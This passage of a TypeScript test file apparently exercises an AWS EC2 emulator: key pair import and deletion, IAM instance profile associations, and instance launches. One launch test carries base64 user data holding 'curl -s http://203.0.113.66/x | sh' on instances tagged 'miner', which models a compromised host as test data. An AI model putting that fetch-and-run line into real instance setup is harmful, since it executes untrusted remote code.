    const out = await ec2.send(new ImportKeyPairCommand({ KeyName: "backup", PublicKeyMaterial: new TextEncoder().encode(line) }));
    expect(out).toMatchObject({ KeyName: "backup", KeyFingerprint: createHash("sha256").update(blob).digest("base64") });
    const listed = await ec2.send(new DescribeKeyPairsCommand({ KeyNames: ["backup"], IncludePublicKey: true }));
    expect(listed.KeyPairs?.[0]).toMatchObject({ KeyType: "ed25519", PublicKey: line });
    expect(await failure(ec2.send(new ImportKeyPairCommand({ KeyName: "junk", PublicKeyMaterial: new TextEncoder().encode("not a key") })))).toMatchObject({
      name: "InvalidKey.Format",
    });
    expect((await ec2.send(new DescribeKeyPairsCommand({}))).KeyPairs).toHaveLength(3);
    const run = await ec2.send(
      new RunInstancesCommand({ ImageId: "ami-0b5c74e235ed808b9", MinCount: 1, MaxCount: 1, KeyName: "backup", SubnetId: "subnet-0a1b2c3d4e5f60001" }),
    );
    expect(run.Instances?.[0]?.KeyName).toBe("backup");
  });

  it("deletes key pairs by name (idempotent) or id", async () => {
    const out = await ec2.send(new DeleteKeyPairCommand({ KeyName: "web-key" }));
    expect(out).toMatchObject({ Return: true, KeyPairId: "key-0a1b2c3d4e5f60001" });
    expect((await ec2.send(new DescribeKeyPairsCommand({}))).KeyPairs?.map((k) => k.KeyName)).toEqual(["ops-key"]);
    await ec2.send(new DeleteKeyPairCommand({ KeyName: "web-key" }));
    expect(await failure(ec2.send(new DeleteKeyPairCommand({ KeyPairId: "key-0000000000000000f" })))).toMatchObject({ name: "InvalidKeyPair.NotFound" });
    await ec2.send(new DeleteKeyPairCommand({ KeyPairId: "key-0a1b2c3d4e5f60002" }));
    expect((await ec2.send(new DescribeKeyPairsCommand({}))).KeyPairs).toEqual([]);
  });
});

describe("instance profile associations", () => {
  const PROFILE_ARN = "arn:aws:iam::123456789012:instance-profile/ir-quarantine";

  beforeEach(async () => {
    // The basic recording has no instance profiles in IAM; give it one to associate.
    const runtime = server.emulator.runtime;
    iamStateOf(runtime, server.accountId).instanceProfiles["ir-quarantine"] = {
      InstanceProfileName: "ir-quarantine",
      InstanceProfileId: "AIPAIRQUARANTINE0001",
      Arn: PROFILE_ARN,
      Path: "/",
      CreateDate: "2026-01-01T00:00:00Z",
      Roles: [],
    };
    await runtime.store.commit();
  });

  it("disassociate, associate, replace, and refuse a second association", async () => {
    const ASSOC = "iip-assoc-0a1b2c3d4e5f60001";
    expect(await failure(ec2.send(new AssociateIamInstanceProfileCommand({ InstanceId: WEB, IamInstanceProfile: { Arn: PROFILE_ARN } })))).toMatchObject({
      name: "IncorrectState",
      message: `There is an existing association for instance ${WEB}`,
    });

    const dis = await ec2.send(new DisassociateIamInstanceProfileCommand({ AssociationId: ASSOC }));
    expect(dis.IamInstanceProfileAssociation).toMatchObject({ AssociationId: ASSOC, InstanceId: WEB, State: "disassociating" });
    expect((await instance()).IamInstanceProfile).toBeUndefined();
    expect((await ec2.send(new DescribeIamInstanceProfileAssociationsCommand({}))).IamInstanceProfileAssociations).toEqual([]);
    expect(
      (
        await ec2.send(new DescribeIamInstanceProfileAssociationsCommand({ Filters: [{ Name: "state", Values: ["disassociated"] }] }))
      ).IamInstanceProfileAssociations?.map((a) => a.AssociationId),
    ).toEqual([ASSOC]);
    expect((await failure(ec2.send(new DisassociateIamInstanceProfileCommand({ AssociationId: ASSOC })))).name).toBe("InvalidAssociationID.NotFound");

    expect(await failure(ec2.send(new AssociateIamInstanceProfileCommand({ InstanceId: WEB, IamInstanceProfile: { Name: "no-such-profile" } })))).toMatchObject(
      { name: "InvalidParameterValue" },
    );
    const assoc = await ec2.send(new AssociateIamInstanceProfileCommand({ InstanceId: WEB, IamInstanceProfile: { Name: "ir-quarantine" } }));
    expect(assoc.IamInstanceProfileAssociation).toMatchObject({
      InstanceId: WEB,
      State: "associating",
      IamInstanceProfile: { Arn: PROFILE_ARN, Id: "AIPAIRQUARANTINE0001" },
    });
    expect((await instance()).IamInstanceProfile).toEqual({ Arn: PROFILE_ARN, Id: "AIPAIRQUARANTINE0001" });
    const filtered = await ec2.send(new DescribeInstancesCommand({ Filters: [{ Name: "iam-instance-profile.arn", Values: [PROFILE_ARN] }] }));
    expect(filtered.Reservations).toHaveLength(1);

    const newId = assoc.IamInstanceProfileAssociation?.AssociationId;
    const replaced = await ec2.send(new ReplaceIamInstanceProfileAssociationCommand({ AssociationId: newId, IamInstanceProfile: { Arn: PROFILE_ARN } }));
    expect(replaced.IamInstanceProfileAssociation?.AssociationId).not.toBe(newId);
    const current = await ec2.send(new DescribeIamInstanceProfileAssociationsCommand({}));
    expect(current.IamInstanceProfileAssociations?.map((a) => [a.AssociationId, a.State])).toEqual([
      [replaced.IamInstanceProfileAssociation?.AssociationId, "associated"],
    ]);
  });
});

describe("RunInstances", () => {
  it("launches pending instances with an interface, volumes from the image and the tags asked for", async () => {
    const userData = Buffer.from("#!/bin/bash\ncurl -s http://203.0.113.66/x | sh\n").toString("base64");
    const out = await ec2.send(
      new RunInstancesCommand({
        ImageId: "ami-0b5c74e235ed808b9",
        InstanceType: "c5.4xlarge",
        MinCount: 2,
        MaxCount: 2,
        KeyName: "ops-key",
        SubnetId: "subnet-0a1b2c3d4e5f60001",
        SecurityGroupIds: ["sg-0a1b2c3d4e5f60003"],
        UserData: userData,
        TagSpecifications: [{ ResourceType: "instance", Tags: [{ Key: "Name", Value: "miner" }] }],
      }),
    );
    expect(out.ReservationId).toMatch(/^r-0[0-9a-f]{16}$/);
    expect(out.Instances).toHaveLength(2);
    const [a, b] = out.Instances ?? [];
    expect(a).toMatchObject({ State: { Code: 0, Name: "pending" }, InstanceType: "c5.4xlarge", KeyName: "ops-key", AmiLaunchIndex: 0, VpcId: VPC });
    expect(b?.AmiLaunchIndex).toBe(1);
    // The image declares IMDSv2 support, so the instances launch with tokens required.
    expect(a?.MetadataOptions).toMatchObject({ HttpTokens: "required", HttpPutResponseHopLimit: 2, State: "pending" });
    expect(a?.PrivateIpAddress).not.toBe(b?.PrivateIpAddress);
    expect(a?.PrivateIpAddress).toMatch(/^10\.0\.1\.\d+$/);
    expect(a?.PublicIpAddress).toMatch(/^203\.0\.113\.\d+$/);
    expect(a?.SecurityGroups).toEqual([{ GroupId: "sg-0a1b2c3d4e5f60003", GroupName: "bastion-ssh" }]);

    const ids = [a?.InstanceId, b?.InstanceId] as string[];
    const miners = await ec2.send(new DescribeInstancesCommand({ Filters: [{ Name: "tag:Name", Values: ["miner"] }] }));
    expect(miners.Reservations?.[0]?.Instances?.map((i) => i.InstanceId)).toEqual(ids);
    const vols = await ec2.send(new DescribeVolumesCommand({ Filters: [{ Name: "attachment.instance-id", Values: ids }] }));
    expect(vols.Volumes?.map((v) => [v.SnapshotId, v.Size, v.Attachments?.[0]?.DeleteOnTermination])).toEqual([
      ["snap-0a1b2c3d4e5f60002", 8, true],
      ["snap-0a1b2c3d4e5f60002", 8, true],
    ]);
    const enis = await ec2.send(new DescribeNetworkInterfacesCommand({ Filters: [{ Name: "attachment.instance-id", Values: [ids[0]] }] }));
    expect(enis.NetworkInterfaces?.[0]?.Association?.PublicIp).toBe(a?.PublicIpAddress);
    const ud = await ec2.send(new DescribeInstanceAttributeCommand({ InstanceId: ids[0], Attribute: "userData" }));
    expect(ud.UserData?.Value).toBe(userData);
    settle();
    expect((await instance(ids[0])).State?.Name).toBe("running");

    // Terminating takes the launched disks and interfaces with it.
    await ec2.send(new TerminateInstancesCommand({ InstanceIds: ids }));
    expect((await ec2.send(new DescribeVolumesCommand({ Filters: [{ Name: "attachment.instance-id", Values: ids }] }))).Volumes).toEqual([]);
    expect((await ec2.send(new DescribeNetworkInterfacesCommand({ Filters: [{ Name: "attachment.instance-id", Values: ids }] }))).NetworkInterfaces).toEqual(
      [],
    );
  });

  it("refuses unknown images, key pairs and groups, and a launch with no subnet and no default VPC, creating nothing", async () => {
    const base = { ImageId: "ami-0b5c74e235ed808b9", MinCount: 1, MaxCount: 1, SubnetId: "subnet-0a1b2c3d4e5f60001" };
    expect((await failure(ec2.send(new RunInstancesCommand({ ...base, ImageId: "ami-0000000000000000f" })))).name).toBe("InvalidAMIID.NotFound");
    expect(await failure(ec2.send(new RunInstancesCommand({ ...base, KeyName: "attacker-key" })))).toMatchObject({
      name: "InvalidKeyPair.NotFound",
      message: "The key pair 'attacker-key' does not exist",
    });
    expect((await failure(ec2.send(new RunInstancesCommand({ ...base, SecurityGroupIds: ["sg-0000000000000000f"] })))).name).toBe("InvalidGroup.NotFound");
    expect((await failure(ec2.send(new RunInstancesCommand({ ...base, SubnetId: undefined })))).name).toBe("VPCIdNotSpecified");
    expect((await failure(ec2.send(new RunInstancesCommand({ ...base, MinCount: 3, MaxCount: 2 })))).name).toBe("InvalidParameterValue");
    expect((await failure(ec2.send(new RunInstancesCommand({ ...base, DryRun: true })))).name).toBe("DryRunOperation");
    const all = await ec2.send(new DescribeInstancesCommand({}));
    expect(all.Reservations?.flatMap((r) => r.Instances ?? []).map((i) => i.InstanceId)).toEqual([WEB]);
    expect((await ec2.send(new DescribeVolumesCommand({}))).Volumes).toHaveLength(2);
  });
});
